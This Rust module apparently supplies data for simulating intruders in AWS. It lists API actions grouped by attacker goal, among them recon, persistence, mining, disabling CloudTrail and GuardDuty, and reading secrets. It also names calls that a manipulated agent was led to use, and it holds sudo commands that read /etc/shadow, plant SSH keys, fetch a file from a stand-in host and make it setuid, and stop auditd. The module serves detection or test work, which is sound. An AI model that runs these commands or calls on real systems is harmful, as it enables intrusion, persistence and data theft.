//! The calls that intruders choose from, by what they are after.

/// Looks around.
pub(super) const RECON: [&str; 34] = [
    "sts:GetCallerIdentity",
    "iam:ListUsers",
    "iam:ListRoles",
    "iam:GetUser",
    "iam:ListAttachedUserPolicies",
    "iam:ListUserPolicies",
    "iam:ListGroupsForUser",
    "iam:SimulatePrincipalPolicy",
    "iam:ListAccountAliases",
    "iam:GetAccountAuthorizationDetails",
    "iam:GetAccountSummary",
    "s3:ListBuckets",
    "s3:GetBucketLogging",
    "s3:GetBucketPublicAccessBlock",
    "ec2:DescribeInstances",
    "ec2:DescribeRegions",
    "ec2:DescribeSecurityGroups",
    "ec2:DescribeInstanceTypes",
    "ec2:DescribeSnapshots",
    "lambda:ListFunctions20150331",
    "secretsmanager:ListSecrets",
    "ssm:DescribeParameters",
    "ses:GetSendQuota",
    "ses:ListIdentities",
    "ses:GetAccount",
    "sns:GetSMSAttributes",
    "organizations:DescribeOrganization",
    "organizations:ListAccounts",
    "servicequotas:ListServiceQuotas",
    "rds:DescribeDBInstances",
    "cloudtrail:DescribeTrails",
    "guardduty:ListDetectors",
    "dynamodb:ListTables",
    "account:GetContactInformation",
];

/// Makes a way back.
pub(super) const PERSISTENCE: [&str; 12] = [
    "iam:CreateUser",
    "iam:CreateAccessKey",
    "iam:CreateLoginProfile",
    "iam:AttachUserPolicy",
    "iam:PutUserPolicy",
    "iam:UpdateAssumeRolePolicy",
    "iam:CreateRole",
    "iam:AttachRolePolicy",
    "iam:UpdateLoginProfile",
    "sts:GetFederationToken",
    "ec2:ImportKeyPair",
    "lambda:AddPermission20150331v2",
];

/// Shares data with an account of its own.
pub(super) const SNAPSHOTS: [&str; 6] = [
    "ec2:DescribeSnapshots",
    "ec2:CreateSnapshot",
    "ec2:ModifySnapshotAttribute",
    "rds:DescribeDBSnapshots",
    "rds:CreateDBSnapshot",
    "rds:ModifyDBSnapshotAttribute",
];

/// Mines, at the victim's cost.
pub(super) const MINING: [&str; 8] = [
    "servicequotas:ListServiceQuotas",
    "ec2:DescribeInstanceTypes",
    "ec2:CreateKeyPair",
    "ec2:CreateSecurityGroup",
    "ec2:AuthorizeSecurityGroupIngress",
    "ec2:RunInstances",
    "ec2:RequestSpotInstances",
    "ecs:CreateCluster",
];

/// Uses foundation models, at the victim's cost.
pub(super) const MODELS: [&str; 6] = [
    "bedrock:ListFoundationModels",
    "bedrock:GetFoundationModelAvailability",
    "bedrock:GetModelInvocationLoggingConfiguration",
    "bedrock:PutUseCaseForModelAccess",
    "bedrock:InvokeModel",
    "bedrock:InvokeModelWithResponseStream",
];

/// Sends mail and text messages in the victim's name.
pub(super) const MAIL: [&str; 5] =
    ["ses:GetSendQuota", "ses:GetAccount", "ses:ListIdentities", "ses:VerifyEmailIdentity", "ses:SendEmail"];

/// Blinds the defenders.
pub(super) const EVASION: [&str; 12] = [
    "cloudtrail:StopLogging",
    "cloudtrail:DeleteTrail",
    "cloudtrail:PutEventSelectors",
    "cloudtrail:UpdateTrail",
    "guardduty:DeleteDetector",
    "guardduty:UpdateDetector",
    "guardduty:CreateFilter",
    "config:StopConfigurationRecorder",
    "config:DeleteDeliveryChannel",
    "logs:DeleteLogGroup",
    "ec2:DeleteFlowLogs",
    "securityhub:DisableSecurityHub",
];

/// Reads what is worth something.
pub(super) const LOOT: [&str; 8] = [
    "s3:ListObjects",
    "s3:GetObject",
    "secretsmanager:GetSecretValue",
    "secretsmanager:BatchGetSecretValue",
    "ssm:GetParametersByPath",
    "dynamodb:Scan",
    "dynamodb:ExportTableToPointInTime",
    "s3:CopyObject",
];

/// What a person looks at in the console.
pub(super) const CONSOLE: [&str; 16] = [
    "ec2:DescribeInstances",
    "ec2:DescribeSecurityGroups",
    "s3:ListBuckets",
    "s3:GetBucketPolicy",
    "lambda:ListFunctions20150331",
    "lambda:GetFunction20150331v2",
    "iam:ListRoles",
    "iam:ListUsers",
    "secretsmanager:ListSecrets",
    "secretsmanager:DescribeSecret",
    "secretsmanager:GetSecretValue",
    "logs:DescribeLogGroups",
    "logs:FilterLogEvents",
    "rds:DescribeDBInstances",
    "cloudformation:ListStacks",
    "monitoring:DescribeAlarms",
];

/// Tools that an agent was talked into using.
pub(super) const AGENT_TOOLS: [&str; 22] = [
    "s3:ListBuckets",
    "s3:ListObjects",
    "s3:GetObject",
    "dynamodb:ListTables",
    "dynamodb:Scan",
    "secretsmanager:ListSecrets",
    "secretsmanager:GetSecretValue",
    "ssm:DescribeParameters",
    "ssm:GetParametersByPath",
    "lambda:ListFunctions20150331",
    "lambda:Invoke",
    "iam:ListRoles",
    "iam:ListUsers",
    "ec2:DescribeInstances",
    "rds:DescribeDBInstances",
    "sqs:ListQueues",
    "sns:ListTopics",
    "sns:Publish",
    "ses:SendEmail",
    "athena:StartQueryExecution",
    "cognito-idp:ListUsers",
    "logs:FilterLogEvents",
];

/// Regions that the company does not use: miners like them.
pub(super) const ELSEWHERE: [&str; 5] =
    ["ap-southeast-2", "ap-northeast-1", "us-west-2", "sa-east-1", "eu-north-1"];

/// Commands of a person on a host.
pub(super) const COMMANDS: [&str; 12] = [
    "sudo /usr/bin/id",
    "sudo /usr/bin/su -",
    "sudo /usr/bin/cat /etc/shadow",
    "sudo /usr/sbin/useradd -m support2",
    "sudo /usr/bin/bash",
    "sudo /usr/bin/vi /etc/sudoers",
    "sudo /usr/bin/tee -a /home/deploy/.ssh/authorized_keys",
    "sudo /usr/bin/crontab -e",
    "sudo /usr/bin/curl -o /tmp/x http://192.0.2.9/x",
    "sudo /usr/bin/chmod 4755 /tmp/x",
    "sudo /usr/bin/systemctl stop auditd",
    "sudo /usr/bin/tar -czf /tmp/d.tgz /var/lib",
];

#[cfg(test)]
mod tests {
    use super::super::super::catalog;
    use super::*;

    #[test]
    fn whatever_an_intruder_may_do_is_in_the_catalogue() {
        for pool in [
            &RECON[..],
            &PERSISTENCE,
            &SNAPSHOTS,
            &MINING,
            &MODELS,
            &MAIL,
            &EVASION,
            &LOOT,
            &CONSOLE,
            &AGENT_TOOLS,
        ] {
            for action in pool {
                assert!(catalog::find(action).is_some(), "{action}");
            }
        }
    }
}
